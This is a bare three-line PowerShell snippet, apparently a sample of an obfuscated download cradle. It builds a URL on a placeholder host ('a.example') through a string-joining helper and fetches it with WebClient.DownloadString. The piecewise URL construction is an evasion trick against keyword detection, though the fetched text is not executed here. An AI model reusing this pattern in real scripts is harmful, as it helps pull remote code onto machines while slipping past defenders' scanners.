function j{$args[0]+$args[1]}
$wc = New-Object System.Net.WebClient
$wc.DownloadString((j 'http://' 'a.example/p/x.txt'))
